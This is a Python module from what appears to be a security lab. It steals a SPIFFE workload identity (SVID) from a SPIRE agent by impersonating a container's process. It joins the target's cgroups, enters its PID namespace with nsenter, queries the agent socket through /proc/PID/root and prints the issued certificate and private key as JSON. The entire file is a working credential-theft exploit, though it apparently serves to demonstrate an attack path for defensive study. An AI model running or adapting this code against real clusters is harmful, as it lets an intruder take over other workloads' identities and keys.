"""Takes an SVID from SPIRE's agent in the name of another process: what an intruder could do there.

The agent knows a caller by its process: so this one joins the cgroups and the PID namespace of a
container before it asks. Run as ``python -m lab.attack.thief PID SOCKET`` it prints JSON.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import tempfile
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from engine.spire.agent import AgentError, messages
from engine.spire.messages import Given, given_in
from engine.spire.store import store
from engine.tls import CERTIFICATE, KEY
from lab.attack.certificates import Material
from lab.cluster.model import LabError

_CGROUPS = Path("/sys/fs/cgroup")
_LIMITS = frozenset({"cpu", "cpuacct", "cpuset", "memory"})
_MEMORY = "/dev/shm"  # noqa: S108 - keys touch no disk
_PATIENCE = 60.0
_UNKNOWN = "knows no registration"


@dataclass(frozen=True, slots=True)
class Loot:
    """An SVID; ``material`` is not to be printed."""

    spiffe: str
    material: Material


class NothingGivenError(Exception):
    """The agent gave nothing; ``unknown`` if it does not know who asks."""

    def __init__(self, message: str, *, unknown: bool) -> None:
        """Keep both."""
        self.unknown = unknown
        super().__init__(message)


def steal(pid: int, socket: str) -> Loot:
    """The SVID that a container is given: ``pid`` runs in it, and sees ``socket``.

    Raises:
        NothingGivenError: if the agent gives none.
        LabError: if that can't be tried.
    """
    said: dict[str, Any] = json.loads(
        _run([sys.executable, "-m", "lab.attack.thief", str(pid), socket], pid)
    )
    if "spiffe" not in said:
        raise NothingGivenError(said["error"], unknown=said["unknown"])
    return Loot(said["spiffe"], Material(said["certificate"], said["key"]))


def _run(command: list[str], pid: int) -> str:
    environment = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])}
    with subprocess.Popen(  # noqa: S603 - ourselves
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=environment,
        start_new_session=True,
    ) as process:
        try:
            said, words = process.communicate(timeout=_PATIENCE)
        except subprocess.TimeoutExpired:
            raise LabError(f"no SVID came for process {pid} in {_PATIENCE:.0f} s") from None
        finally:
            # Entering the processes of a container takes one process more.
            with suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
    if not said:
        last = "".join(words.strip().splitlines()[-1:])
        raise LabError(f"no SVID can be asked for as process {pid}: {last}")
    return said


def join(pid: int, cgroups: Path = _CGROUPS) -> None:
    """Be in the cgroups of another process from now on, but those that limit what it may take.

    Raises:
        OSError: if they are gone.
    """
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if not _LIMITS.isdisjoint(controllers.split(",")):
            continue
        folder = cgroups / controllers.removeprefix("name=") / path.lstrip("/")
        if (folder / "cgroup.procs").exists():
            (folder / "cgroup.procs").write_text(str(os.getpid()))


def ask(socket: Path) -> dict[str, Any]:
    """What the agent gives us, as JSON."""
    try:
        for message in messages(socket):
            return _plain(given_in(message)[0])
    except AgentError as error:
        return {"error": str(error), "unknown": _UNKNOWN in str(error)}
    return {"error": "the agent said nothing", "unknown": False}


def _plain(given: Given) -> dict[str, Any]:
    with tempfile.TemporaryDirectory(dir=_MEMORY) as name:
        folder = Path(name)
        store(folder, given)
        certificate, key = (folder / CERTIFICATE).read_text(), (folder / KEY).read_text()
    return {"spiffe": given.spiffe, "certificate": certificate, "key": key}


def main(arguments: list[str]) -> None:
    """Join, go where the container is, and ask there."""
    if arguments[0] == "--ask":
        sys.stdout.write(json.dumps(ask(Path(arguments[1]))) + "\n")
        return
    pid, socket = int(arguments[0]), arguments[1]
    join(pid)
    # Its file system is seen from here: there is no Python in it.
    seen = f"/proc/{pid}/root{socket}"
    inside = ["nsenter", f"--target={pid}", "--pid", "--"]
    command = [*inside, sys.executable, "-m", "lab.attack.thief", "--ask", seen]
    os.execvp(command[0], command)  # noqa: S606 - no shell, and our own words


if __name__ == "__main__":
    main(sys.argv[1:])
